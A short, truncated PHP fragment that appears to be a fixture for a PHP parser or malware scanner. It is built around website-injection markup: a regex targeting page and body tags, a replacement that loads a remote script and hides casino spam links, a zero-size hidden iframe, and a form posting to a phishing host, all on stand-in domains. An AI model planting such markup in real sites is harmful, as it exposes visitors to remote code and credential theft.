�<?php
$rootUrl="http://example.test";
$ExpInsertFlags="/(<%|<\?php|<body(.*?)>)/i";
$ReplaceStr='<script src="http://x.test/1.js"></script><div style="display:none">&#x53CB;&#x60C5;<a href="http://casino.test/">澳门赌场</a></div>';
$h = <<<EOT
<iframe src="http://x.test/f" width=0 height=0></iframe> ?>
EOT;
// comment ?> <p>visible 正文</p><?= $a->b ?><? echo "<a href=\"/v\">v</a>"; ?>
<?php echo '<form action="http://phish.test/p" '
